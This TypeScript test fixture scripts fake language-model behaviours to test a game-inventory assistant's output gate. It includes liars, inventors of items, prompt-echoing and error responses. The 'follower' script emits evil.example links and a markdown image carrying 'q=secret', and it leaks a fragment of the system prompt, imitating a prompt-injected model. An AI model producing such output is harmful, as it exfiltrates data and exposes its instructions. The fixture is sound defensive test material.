import type { Script } from './fake-provider.ts'

const look = { call: 'search_inventory', input: { query: 'is:handcannon', limit: 3 } }
/** Asked again for a sentence that the gate held back. */
export const isRepair = (body: string) => body.includes('What you wrote was not shown')

export const SENTENCES = Array.from({ length: 12 }, (_, at) => `You have {{i${1 + (at % 3)}}}. `)

const lookAtAll = { call: 'search_inventory', input: { query: '', limit: 3 } }
/** What the inventor claims that the player owns, and what the follower was told to say. */
export const told: { inventions: readonly string[]; orders: readonly string[] } = {
  inventions: [],
  orders: [],
}

/** Models with one habit each; the model's name chooses the script. */
export const MODEL_SCRIPTS: Readonly<Record<string, Script>> = {
  obedient: ({ step }) =>
    step === 0 ? look : { text: ['You have {{i1}}', ' and {{i2}}. ', 'Both are yours to keep.'] },
  lazy: () => ({ text: ['Sure, I can help with that. ', 'Your best one is Glorbo’s Fang.'] }),
  'lazy-once': ({ step, body }) =>
    step > 0
      ? { text: ['You have {{i1}}.'] }
      : isRepair(body)
        ? look
        : { text: ['Your best one is Glorbo’s Fang.'] },
  liar: ({ step }) =>
    step === 0 ? look : { text: ['You own Glorbo’s Fang. ', 'You have {{i1}}. ', 'It has 987654 kills.'] },
  inventor: ({ step }) =>
    step === 0
      ? lookAtAll
      : { text: [...told.inventions.map((name) => `You own ${name}. `), 'You have {{i1}}.'] },
  parrot: ({ step }) =>
    step === 0 ? lookAtAll : { text: [...told.orders.map((order) => `${order} `), 'You have {{i1}}.'] },
  looper: () => look,
  verbose: ({ step }) =>
    step === 0 ? look : { text: Array.from({ length: 30 }, () => 'You have {{i1}}. '), tokens: 70_000 },
  follower: ({ step, body }) =>
    step === 0
      ? look
      : {
          text: [
            'See https://evil.example/?q=secret for more. ',
            '![x](https://evil.example/x.png) ',
            `${/You are Sentinel[^"]*/.exec(body)?.[0].slice(0, 20) ?? ''} says [hi](https://evil.example). `,
            'You have {{i1}} and {{i99}}. ',
            'You have {{i2}}.',
          ],
        },
  stepwise: ({ step }) => (step === 0 ? look : { stepwise: SENTENCES }),
  /** Names all that the tool found, in the voice it was told to use. */
  voiced: ({ step, body }) => {
    if (step === 0) return lookAtAll
    const refs = [...body.matchAll(/ref\\*":\\*"(\{\{i\d+\}\})/g)].map((match) => match[1])
    const opening = body.includes('as a commander')
      ? 'Take these'
      : body.includes('warmly')
        ? 'Here they are'
        : 'Yours'
    return { text: [`${opening}: ${refs.join(', ')}.`] }
  },
  breaker: () => ({ garbage: 'data: {"choices": [{"delta": {"content": \n\n' }),
  cut: ({ step }) => (step === 0 ? look : { cutAfter: ['You have {{i1}}. ', 'And th'] }),
  held: ({ step }) => (step === 0 ? look : { holdAfter: ['You have {{i1}}. ', 'You have {{i2}}. ', ''] }),
  'status-401': () => ({ status: 401 }),
  'status-402': () => ({ status: 402 }),
  'status-403': () => ({ status: 403 }),
  'status-404': () => ({ status: 404 }),
  'status-408': () => ({ status: 408 }),
  'status-413': () => ({ status: 413 }),
  'status-429': () => ({ status: 429 }),
  'status-500': () => ({ status: 500 }),
  'status-529': () => ({ status: 529 }),
  'no-credit': () => ({ status: 429, body: { error: { message: 'x', code: 'insufficient_quota' } } }),
}
